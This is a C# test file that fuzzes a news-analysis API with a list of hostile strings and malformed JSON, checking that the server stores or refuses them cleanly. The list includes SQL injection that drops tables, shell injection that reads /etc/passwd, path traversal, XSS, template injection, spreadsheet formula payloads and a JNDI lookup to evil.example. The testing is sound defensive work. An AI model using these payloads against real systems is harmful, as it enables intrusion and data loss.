using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using System.Text.Json.Nodes;
using CsvHelper;
using CsvHelper.Configuration;

namespace DeepSeekImpact.Api.Tests;

/// <summary>Every string that a user controls is tried as something else: as SQL, as a search query, a path, a format, a formula, a pattern. It stays a string.</summary>
[Trait("Speed", "Slow")]
public sealed class HostileStringTests(ApiFixture api) : IClassFixture<ApiFixture>
{
    private static readonly string[] Hostile =
    [
        "' OR '1'='1", "'; DROP TABLE articles; --", "\" OR \"\"=\"", "1); DELETE FROM claims; --", "' UNION SELECT Hash FROM keys --", "a' AND (SELECT count(*) FROM sqlite_schema) > 0 --", "%' ESCAPE '\\", "%%%", "_", "\\", "`id`", "$(id)", "; ls -la", "| cat /etc/passwd",
        "\"unclosed", "NEAR(a b, 3)", "title:chip", "body : chip", "chip*", "*", "^chip", "C++", "AT&T", "a-b", "AND", "OR OR", "NOT", "chip OR", "{a b}", "(chip", "--", "-chip", "- -", "\"\"", "+",
        "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "\\\\host\\share", "CON", ".", "..", "a/b",
        "line\r\nSet-Cookie: a=b", "line\n{\"@l\":\"Fatal\"}", "\u001b[31mred\u001b[0m", "\u2028\u2029", "{0} {1:x} {@User}", "%s%s%n", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<%= 7*7 %>",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "|cmd", "＝1+1", "＋1", "－1", "＠x",
        "(a+)+$", "(?=a)(?<!b)", "[", "a{99999}", "(.*)*x", "\\", "1e999", "NaN", "-0", "0x41", "9223372036854775808", "null", "undefined", "true", "2025-13-45",
        "\u202Eevil\u202C", "e\u0301\u0301\u0301\u0301", "👩‍👩‍👧‍👦", "\uFEFF", "ﷺ", "İıſß", new string('a', 3000), new string('(', 1500), string.Join(' ', Enumerable.Repeat("chip OR", 900)), new string('"', 1001),
    ];

    /// <summary>The share of strings tried in each parameter, one in this many. Calls are read the same way for both databases: the second gets a fifth.</summary>
#if POSTGRES
    private const int OneIn = 5;
#else
    private const int OneIn = 1;
#endif

    [Fact]
    public async Task In_any_parameter_and_any_path_it_is_a_string_or_refused_with_a_reason()
    {
        using var client = api.CreateClient();
        var before = (await api.GetAsync("/api/v1/stats")).GetRawText();
        var document = JsonNode.Parse(await client.GetStringAsync(new Uri("/swagger/v1/swagger.json", UriKind.Relative)))!;
        var asked = 0;
        var names = new HashSet<string>();
        foreach (var (path, operations) in document["paths"]!.AsObject())
        {
            if (operations!["get"] is not { } call || path.EndsWith("}/events", StringComparison.Ordinal) || path.EndsWith("/stream", StringComparison.Ordinal))
                continue;
            foreach (var parameter in call["parameters"]?.AsArray() ?? [])
            {
                var (name, isInPath) = (parameter!["name"]!.GetValue<string>(), parameter["in"]!.GetValue<string>() == "path");

                // A parameter that several lists have in common is described and read in one place: the first gets all strings, the others
                // a part of them each.
                var parts = isInPath || names.Add(parameter["description"]?.GetValue<string>() + name) ? OneIn : 4 * OneIn;
                var part = asked;
                foreach (var value in Hostile.Where((_, place) => (place + part) % parts == 0))
                {
                    var escaped = Uri.EscapeDataString(value);
                    var address = isInPath ? path.Replace($"{{{name}}}", escaped, StringComparison.Ordinal) : path.Replace("{id}", "nvidia", StringComparison.Ordinal).Replace("{revision}", "1", StringComparison.Ordinal) + $"?{name}={escaped}";
                    using var answer = await client.GetAsync(new Uri(address.Replace("{revision}", "1", StringComparison.Ordinal).Replace("{id}", "nvidia", StringComparison.Ordinal), UriKind.Relative));
                    await IsCleanAsync(answer, $"{path} {name}={value[..Math.Min(40, value.Length)]}");
                    asked++;
                }
            }
        }

        asked.Should().BeGreaterThan(3000 / OneIn);
        (await api.GetAsync("/api/v1/stats")).GetRawText().Should().Be(before, "asking changes nothing");
    }

    [Fact]
    public async Task What_looks_like_SQL_finds_what_it_says_and_no_more()
    {
        foreach (var value in Hostile.Where(value => value.Contains('\'', StringComparison.Ordinal) || value.Contains('%', StringComparison.Ordinal)))
        {
            var escaped = Uri.EscapeDataString(value);
            foreach (var address in new[] { $"claims?claimant={escaped}", $"claims?source={escaped}", $"market-moves?instrument={escaped}", $"figures?subject={escaped}", $"quotes?speaker={escaped}", $"articles?source={escaped}", $"articles?entity={escaped}" })
                (await api.GetAsync("/api/v1/" + address)).GetProperty("items").GetArrayLength().Should().Be(0, address);
        }
    }

    [Fact]
    public async Task In_any_field_it_is_stored_as_it_is_or_refused()
    {
        await using var own = new ApiFixture();
        using var client = own.CreateClient();
        var number = 0;
        foreach (var value in Hostile)
        {
            var what = value[..Math.Min(40, value.Length)];
            using var article = await client.PostAsJsonAsync("/api/v1/articles", new { text = $"Report {number++}: shares of Zorvex fell {number}% on Monday, {value} said.", title = value, source = value, authors = new[] { value } });
            await IsCleanAsync(article, "article " + what);
            if (article.StatusCode == HttpStatusCode.Created)
            {
                var id = (await article.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetString();
                var stored = await own.GetAsync("/api/v1/articles/" + id);
                if (value.Trim() == value)
                    stored.GetProperty("source").GetString().Should().Be(value);
            }

            using var text = await client.PostAsJsonAsync("/api/v1/extract", new { text = value });
            await IsCleanAsync(text, "text " + what);
            using var name = await client.PostAsJsonAsync("/api/v1/lexicon", new { name = value, kind = "company", aliases = new[] { value }, ticker = value });
            await IsCleanAsync(name, "lexicon " + what);
            using var feed = await client.PostAsJsonAsync("/api/v1/feeds", new { url = "https://paper.example/" + Uri.EscapeDataString(value), title = value });
            await IsCleanAsync(feed, "feed " + what);
            using var rename = await client.PatchAsJsonAsync("/api/v1/entities/nvidia", new { name = value });
            await IsCleanAsync(rename, "rename " + what);
            using var merge = await client.PostAsJsonAsync("/api/v1/entities/nvidia/merge", new { into = value });
            await IsCleanAsync(merge, "merge " + what);
            using var search = await client.PostAsJsonAsync("/api/v1/search", new { q = value });
            await IsCleanAsync(search, "search " + what);
        }

        (await own.GetAsync("/api/v1/integrity")).GetProperty("broken").GetInt64().Should().Be(0);
        await NoCellIsAFormulaAsync(client);
    }

    [Theory]
    [InlineData("""{"text":"a","text":"b"}""")]
    [InlineData("""{"text":"a","id":"0","sha256":"0"}""")]
    [InlineData("""{"text":"a","publishedAt":1e999}""")]
    [InlineData("""{"text":"a","authors":[1e999]}""")]
    [InlineData("""{"text":"a","authors":["\ud800"]}""")]
    [InlineData("""{"text":{"a":[]}}""")]
    [InlineData("{\"text\":\"a\u0000\"}")]
    [InlineData("""{"text":"a",}""")]
    [InlineData("""{"text":'a'}""")]
    [InlineData("""{"text":"a"}{"text":"b"}""")]
    [InlineData("""/**/{"text":"a"}""")]
    [InlineData("""{"te\u0000xt":"a"}""")]
    [InlineData("[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[")]
    public async Task JSON_that_means_two_things_or_none_is_refused(string json)
    {
        using var client = api.CreateClient();
        foreach (var address in new[] { "/api/v1/articles", "/api/v1/extract" })
        {
            using var body = new StringContent(json, System.Text.Encoding.UTF8, "application/json");
            using var answer = await client.PostAsync(new Uri(address, UriKind.Relative), body);
            answer.StatusCode.Should().Be(HttpStatusCode.BadRequest, await answer.Content.ReadAsStringAsync());
            await IsCleanAsync(answer, json);
        }
    }

    [Theory]
    [InlineData("articles", """{"text":"Gold rose\u0000 1.2%."}""", "text")]
    [InlineData("articles", """{"text":"Gold rose 1.2%.","title":"a\u0000b"}""", "title")]
    [InlineData("articles", """{"text":"Gold rose 1.2%.","source":"a\u0000b"}""", "source")]
    [InlineData("articles", """{"text":"Gold rose 1.2%.","authors":["x","a\u0000b"]}""", "authors")]
    [InlineData("extract", """{"text":"Gold rose\u0000 1.2%."}""", "text")]
    [InlineData("feeds", """{"url":"https://paper.example/f","title":"a\u0000b"}""", "title")]
    [InlineData("lexicon", """{"name":"Zorvex","kind":"company","ticker":"a\u0000b"}""", "ticker")]
    public async Task What_not_every_store_can_hold_is_refused_at_the_door(string call, string json, string field)
    {
        using var client = api.CreateClient();
        using var body = new StringContent(json, System.Text.Encoding.UTF8, "application/json");
        using var answer = await client.PostAsync(new Uri("/api/v1/" + call, UriKind.Relative), body);
        answer.StatusCode.Should().Be(HttpStatusCode.BadRequest);
        (await answer.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").GetProperty(field)[0].GetString().Should().Contain("U+0000");
    }

    [Fact]
    public async Task Deep_JSON_is_refused_and_not_read_to_its_bottom()
    {
        using var client = api.CreateClient();
        foreach (var address in new[] { "/api/v1/articles", "/api/v1/extract", "/api/v1/search", "/api/v1/lexicon", "/api/v1/feeds" })
        {
            using var body = new StringContent(string.Concat(Enumerable.Repeat("{\"text\":", 100_000)), System.Text.Encoding.UTF8, "application/json");
            using var answer = await client.PostAsync(new Uri(address, UriKind.Relative), body);
            answer.StatusCode.Should().Be(HttpStatusCode.BadRequest, address);
            await IsCleanAsync(answer, address);
        }
    }

    /// <summary>No failure of the server, and nothing of its inside in the answer.</summary>
    private static async Task IsCleanAsync(HttpResponseMessage answer, string what)
    {
        var body = await answer.Content.ReadAsStringAsync();
        ((int)answer.StatusCode).Should().BeLessThan(500, "of {0}: {1}", what, body[..Math.Min(300, body.Length)]);
        answer.Headers.Contains("Server").Should().BeFalse();
        answer.Headers.Contains("X-Powered-By").Should().BeFalse();
        answer.Headers.Contains("Set-Cookie").Should().BeFalse(what);
        answer.Headers.GetValues("X-Content-Type-Options").Should().Equal("nosniff");
        if ((int)answer.StatusCode < 400)
            return;
        answer.Content.Headers.ContentType?.MediaType.Should().Be("application/problem+json", what);
        body.Should().NotContain("   at ").And.NotContain("Exception").And.NotContain("SQLite Error").And.NotContain("/src/").And.NotContain("Microsoft.");
    }

    /// <summary>Opened in a spreadsheet, no cell of any list runs.</summary>
    private static async Task NoCellIsAFormulaAsync(HttpClient client)
    {
        var formulas = 0;
        foreach (var list in new[] { "articles", "claims", "quotes", "figures", "market-moves", "entities", "analysts", "feeds" })
        {
            using var reader = new StringReader(await client.GetStringAsync(new Uri($"/api/v1/{list}?format=csv", UriKind.Relative)));
            using var csv = new CsvReader(reader, new CsvConfiguration(CultureInfo.InvariantCulture));
            await csv.ReadAsync();
            csv.ReadHeader();
            while (await csv.ReadAsync())
            {
                for (var column = 0; column < csv.HeaderRecord!.Length; column++)
                {
                    var cell = csv.GetField(column)!;
                    if (cell.Length == 0 || double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _))
                        continue;
                    "=+-@\t\r\n|＝＋－＠".Should().NotContain(cell[..1], "of {0}, {1}: {2}", list, csv.HeaderRecord[column], cell);
                    formulas += cell[0] == '\'' ? 1 : 0;
                }
            }
        }

        formulas.Should().BeGreaterThan(10, "they were there, and defused");
    }
}
